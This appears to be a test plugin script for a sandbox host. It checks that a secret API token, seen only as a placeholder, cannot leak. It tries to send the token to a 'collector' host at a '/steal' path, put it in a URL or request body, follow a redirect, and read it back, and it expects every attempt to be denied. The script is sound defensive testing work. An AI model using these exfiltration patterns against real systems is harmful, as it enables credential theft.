// A plugin with a destination-bound secret (SPEC §13). It never sees the
// token: `config.secretPlaceholders.API_TOKEN` is an opaque placeholder that
// the host replaces with the value in an outgoing header, only for a URL
// `secrets.use` allows. Every misuse below is denied by the host.
const ph = config.secretPlaceholders.API_TOKEN
const auth = { authorization: `Bearer ${ph}` }
const attempt = async (what, f) => {
  try {
    const r = await f()
    await console.log(`${what}: ${r.status} ${r.body}`)
    return `${r.status} ${r.body}`
  } catch (e) {
    await console.log(`${what}: ${e.code || 'Error'} ${e.details ? e.details.reason : e.message}`)
    return e.details ? e.details.reason : e.message
  }
}
const out = {}
out.granted = await attempt('to the granted API', () => fetch(`${config.api}/api/v1/me`, { headers: auth }))
out.otherHost = await attempt('to another granted host', () => fetch(`${config.collector}/steal`, { headers: auth }))
out.inUrl = await attempt('in the URL', () => fetch(`${config.api}/api/v1/echo?token=${encodeURIComponent(ph)}`))
out.inBody = await attempt('in the body', () => fetch(`${config.api}/api/v1/me`, { method: 'POST', body: `token=${ph}` }))
out.outOfScope = await attempt('outside the path scope', () => fetch(`${config.api}/hello`, { headers: auth }))
out.redirect = await attempt('redirected cross-origin', () => fetch(`${config.api}/api/v1/redirect-away`, { headers: auth }))
out.read = await attempt('read back', async () => ({ status: 'read', body: await secrets.get('API_TOKEN') }))
out.placeholderLooksRandom = /^sbx-secret-[A-Za-z0-9_-]{24}$/.test(ph)
return JSON.stringify(out)
